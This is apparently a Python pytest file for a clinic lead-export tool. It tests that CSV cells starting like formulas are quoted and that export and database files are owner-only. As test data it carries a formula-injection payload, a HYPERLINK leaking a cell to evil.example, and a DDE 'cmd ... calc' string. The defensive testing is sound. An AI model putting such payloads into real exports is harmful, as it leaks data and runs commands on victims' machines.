"""Lead exports and the SQLite database are safe to hand around: no formulas, owner-only files."""

from __future__ import annotations

import csv
import io
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Iterator

import pytest
from sqlalchemy import text

from bot.settings import PROJECT_ROOT
from bot.store import migrate
from bot.store.db import make_engine, make_session_factory
from bot.store.export import lead_rows, to_csv
from bot.store.leads import save_intake
from tests.conftest import write_env_file
from tests.store.conftest import intake

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'


def _csv_rows(content: str) -> list:
    return list(csv.DictReader(io.StringIO(content, newline="")))


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def default_umask() -> Iterator[None]:
    """The usual umask 022, under which a plain open() makes a world-readable file."""
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


def test_a_lead_named_like_a_formula_exports_as_text(session_factory):
    save_intake(session_factory, intake(name=FORMULA_NAME))
    [row] = _csv_rows(to_csv(lead_rows(session_factory)))
    assert row["name"] == "'" + FORMULA_NAME


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_starting_like_a_formula_is_quoted(first):
    [row] = _csv_rows(to_csv([
        {"name": f"{first}cmd|' /C calc'!A0", "scar_types": [f"{first}1+1", "boxcar"],
         "assessments": 2},
    ]))
    assert row["name"] == f"'{first}cmd|' /C calc'!A0"
    assert row["scar_types"] == f"'{first}1+1; boxcar"
    assert row["assessments"] == "2"


def test_a_carriage_return_inside_a_cell_does_not_start_a_new_row():
    rows = _csv_rows(to_csv([{"name": "Ann\rreference,status", "email": "a@x.example"}]))
    assert [(row["name"], row["email"]) for row in rows] == [
        ("Ann\rreference,status", "a@x.example")]


def test_ordinary_cells_are_exported_unchanged():
    [row] = _csv_rows(to_csv([{"name": "Maria Lopez", "email": "m@x.example"}]))
    assert (row["name"], row["email"]) == ("Maria Lopez", "m@x.example")


def test_export_file_is_readable_by_its_owner_only(tmp_path, default_umask):
    database_url = f"sqlite:///{tmp_path / 'clinic.db'}"
    migrate.upgrade(database_url)
    engine = make_engine(database_url)
    save_intake(make_session_factory(engine), intake(name=FORMULA_NAME))
    engine.dispose()
    env_file = write_env_file(tmp_path / "export.env", DATABASE_URL=database_url)
    output = tmp_path / "leads.csv"
    subprocess.run(
        [sys.executable, "-m", "bot", "leads", "export", "--output", str(output)],
        cwd=PROJECT_ROOT, env={**os.environ, "BOT_ENV_FILE": str(env_file)}, check=True,
        capture_output=True,
    )
    assert _mode(output) == 0o600
    assert "'" + FORMULA_NAME.replace('"', '""') in output.read_text()


def test_export_over_an_existing_file_makes_it_owner_only(tmp_path, default_umask):
    from bot.store.export import write_export

    output = tmp_path / "leads.csv"
    output.write_text("old leads\n")
    output.chmod(0o644)
    write_export(output, "reference\n")
    assert _mode(output) == 0o600
    assert output.read_text() == "reference\n"


def test_new_sqlite_database_and_its_folder_are_owner_only(tmp_path, default_umask):
    folder = tmp_path / "var"
    database = folder / "clinic.db"
    engine = make_engine(f"sqlite:///{database}")
    try:
        with engine.connect() as connection:
            connection.execute(text("CREATE TABLE t (x INTEGER)"))
            connection.commit()
            spawned = [Path(f"{database}-wal"), Path(f"{database}-shm")]
            assert all(path.exists() for path in spawned)  # WAL mode, connection open
            assert {path.name: _mode(path) for path in [database, *spawned]} == {
                path.name: 0o600 for path in [database, *spawned]
            }
    finally:
        engine.dispose()
    assert _mode(folder) == 0o700
